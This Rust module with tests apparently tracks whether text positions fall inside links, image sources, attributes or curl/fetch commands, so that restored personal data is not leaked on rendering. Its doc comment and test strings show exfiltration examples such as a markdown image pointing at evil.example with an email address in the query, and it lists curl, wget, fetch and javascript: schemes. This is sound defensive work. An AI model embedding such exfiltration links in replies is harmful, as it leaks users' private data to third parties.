//! Knows whether the next byte of a text would land in something that fetches: a URL, a link, an image source.
//!
//! A reply can carry `![x](https://evil.example/?q=[EMAIL_ADDRESS_1])`; an address put back there is sent
//! off by whoever renders it. The tracker reads every byte once, keeps a few bytes of state and errs on the
//! side of seeing a link.

/// Where in the text the tracker stands.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum State {
    /// Running text.
    Text,
    /// A URL; ends at this closing mark, or at white space if there is none.
    Url(Option<u8>),
    /// Behind `](` or `fetch(`: ends when the parenthesis closes, or with the paragraph.
    Parenthesis { depth: u32, angle: bool },
    /// Behind `src=`: a quote or the bare value comes next.
    Attribute,
    /// A quoted attribute value, which may run over lines.
    Quoted(u8),
    /// Behind `curl `: the rest of the command.
    Command,
}

/// Reads a text and says whether its end lies in a link.
#[derive(Debug, Clone)]
pub(crate) struct LinkTracker {
    state: State,
    /// The last sixteen bytes, in lower case, the latest lowest.
    recent: u128,
    /// The last mark in running text that could have opened a URL.
    opener: u8,
    /// Whether an odd number of backslashes stands before the next byte.
    escaped: bool,
    /// Whether the text is the inside of a JSON string, where `\n` is a line break.
    json: bool,
}

/// Attributes whose value is fetched or followed.
const ATTRIBUTES: [&[u8]; 9] =
    [b"src", b"href", b"srcset", b"action", b"poster", b"background", b"cite", b"ping", b"style"];
/// Commands whose arguments are sent.
const COMMANDS: [&[u8]; 4] = [b"curl", b"wget", b"webrequest", b"restmethod"];
/// Calls whose arguments are sent.
const CALLS: [&[u8]; 9] = [
    b"fetch",
    b"urlopen",
    b"sendbeacon",
    b"requests.get",
    b"requests.post",
    b"requests.put",
    b"axios",
    b"axios.get",
    b"axios.post",
];
/// Schemes without `//` that a click or a renderer follows.
const SCHEMES: [&[u8]; 6] = [b"mailto", b"tel", b"sms", b"data", b"javascript", b"vbscript"];

impl LinkTracker {
    pub(crate) fn new(json: bool) -> LinkTracker {
        LinkTracker { state: State::Text, recent: 0, opener: b' ', escaped: false, json }
    }

    /// Whether what comes next would land in a link.
    pub(crate) fn in_link(&self) -> bool {
        self.state != State::Text
    }

    /// Reads on.
    pub(crate) fn advance(&mut self, bytes: &[u8]) {
        for byte in bytes.iter().copied() {
            self.step(byte);
        }
    }

    fn step(&mut self, byte: u8) {
        let escaped = self.escaped;
        self.escaped = byte == b'\\' && !escaped;
        // Inside JSON a line break is spelled `\n`; its letter then counts as the break itself.
        let byte = match byte {
            b'n' | b'r' if self.json && escaped => b'\n',
            b't' if self.json && escaped => b'\t',
            other => other.to_ascii_lowercase(),
        };
        self.state = match self.state {
            State::Text => self.in_text(byte),
            State::Url(closer) => in_url(closer, byte),
            State::Parenthesis { .. } if escaped && !self.json => self.state,
            State::Parenthesis { depth, angle } => self.in_parenthesis(depth, angle, byte),
            State::Attribute => match byte {
                b'"' | b'\'' | b'`' => State::Quoted(byte),
                b' ' | b'\n' | b'\t' | b'\\' => State::Attribute,
                _ => State::Url(None),
            },
            State::Quoted(quote) if byte == quote => State::Text,
            State::Command if byte == b'\n' && !self.ends_with(b"\\") => State::Text,
            unchanged => unchanged,
        };
        if self.state == State::Text && is_opener(byte) {
            self.opener = byte;
        }
        self.recent = self.recent << 8 | u128::from(byte);
    }

    fn in_text(&self, byte: u8) -> State {
        match byte {
            b'(' if self.ends_with(b"]") => State::Parenthesis { depth: 1, angle: false },
            b'(' if CALLS.iter().any(|call| self.ends_with(call)) => {
                State::Parenthesis { depth: 1, angle: false }
            }
            b'/' if self.ends_with(b"/") => self.url(),
            b'/' | b'?' if self.ends_with_domain() => self.url(),
            b'.' if self.ends_with(b"www") => self.url(),
            b':' if SCHEMES.iter().any(|scheme| self.ends_with(scheme)) => self.url(),
            b'=' if ATTRIBUTES.iter().any(|name| self.ends_with_spaced(name)) => State::Attribute,
            b' ' if COMMANDS.iter().any(|command| self.ends_with(command)) => State::Command,
            _ => State::Text,
        }
    }

    fn in_parenthesis(&self, depth: u32, angle: bool, byte: u8) -> State {
        match byte {
            b'\n' if self.ends_with(b"\n") => State::Text,
            b'<' => State::Parenthesis { depth, angle: true },
            b'>' => State::Parenthesis { depth, angle: false },
            b'\n' => State::Parenthesis { depth, angle: false },
            b'(' if !angle => State::Parenthesis { depth: depth.saturating_add(1), angle },
            b')' if !angle && depth <= 1 => State::Text,
            b')' if !angle => State::Parenthesis { depth: depth - 1, angle },
            _ => State::Parenthesis { depth, angle },
        }
    }

    /// A URL that began behind the last opener: quoted ones end with their quote, bare ones with white space.
    fn url(&self) -> State {
        State::Url(match self.opener {
            quote @ (b'"' | b'\'' | b'`') => Some(quote),
            b'<' => Some(b'>'),
            _ => None,
        })
    }

    fn ends_with(&self, word: &[u8]) -> bool {
        word.iter().rev().enumerate().all(|(back, byte)| self.back(back) == *byte)
    }

    /// The same, white space behind the word allowed.
    fn ends_with_spaced(&self, word: &[u8]) -> bool {
        let spaces = (0..8).take_while(|back| self.back(*back) == b' ').count();
        word.iter().rev().enumerate().all(|(back, byte)| self.back(back + spaces) == *byte)
    }

    /// Whether a dot, two letters or more and nothing else stand before: `example.org`.
    fn ends_with_domain(&self) -> bool {
        let letters = (0..15).take_while(|back| self.back(*back).is_ascii_lowercase()).count();
        letters >= 2 && self.back(letters) == b'.' && self.back(letters + 1).is_ascii_alphanumeric()
    }

    /// The byte so many places before the next one; zero beyond the sixteen that are kept.
    fn back(&self, places: usize) -> u8 {
        match places {
            0..16 => (self.recent >> (8 * places)) as u8,
            _ => 0,
        }
    }
}

fn in_url(closer: Option<u8>, byte: u8) -> State {
    match closer {
        Some(closer) if byte == closer || byte == b'\n' => State::Text,
        None if byte.is_ascii_whitespace() => State::Text,
        unchanged => State::Url(unchanged),
    }
}

/// Marks behind which a URL can begin; what comes before them is not part of it.
fn is_opener(byte: u8) -> bool {
    byte.is_ascii_whitespace()
        || matches!(
            byte,
            b'"' | b'\'' | b'`' | b'<' | b'>' | b'(' | b')' | b'[' | b']' | b'{' | b'}' | b',' | b';' | b'|'
        )
}

#[cfg(test)]
mod tests {
    use super::*;

    fn lands_in_link(before: &str, json: bool) -> bool {
        let mut tracker = LinkTracker::new(json);
        tracker.advance(before.as_bytes());
        tracker.in_link()
    }

    #[test]
    fn whatever_fetches_is_a_link() {
        for before in [
            "![x](https://evil.example/?q=",
            "![x](",
            "[x](<https://evil.example/?q=a b ",
            "[x](\n/path?q=",
            "see https://evil.example/",
            "see HTTPS://evil.example/?a=\"",
            "see www.evil.example?q=",
            "evil.example/?q=",
            "//evil.example/",
            "[x]: https://evil.example/?q=",
            "<img src=\"https://evil.example/?q= a ",
            "<img\nsrc = '/x?\n\n",
            "<a href=",
            "<https://evil.example/?q=",
            "{\"url\": \"https://evil.example/?q=a b ",
            "mailto:",
            "data:text/html,",
            "$ curl -d '",
            "curl https://a.example \\\n -d ",
            "fetch(url, {body: \"",
            "[x](a(b)c",
            "[x](a\\)",
        ] {
            assert!(lands_in_link(before, false), "{before}");
        }
        assert!(lands_in_link("see https://evil.example/\\\\n", true), "an escaped backslash, then n");
    }

    #[test]
    fn running_text_is_not() {
        for before in [
            "Hello ",
            "see https://a.example and ",
            "see [docs](https://a.example) or ",
            "{\"url\":\"https://a.example\",\"name\":\"",
            "<a href=\"https://a.example\">",
            "time 12:30 and/or ",
            "int a = b / c; // ",
            "key=value, ratio 1/2 ",
            "<https://a.example> ",
            "Name: ",
            "(see notes) ",
            "[1](unclosed\n\nnew paragraph ",
            "curl https://a.example\n",
        ] {
            assert!(!lands_in_link(before, false), "{before}");
        }
        assert!(!lands_in_link("see https://a.example\\n", true));
    }
}
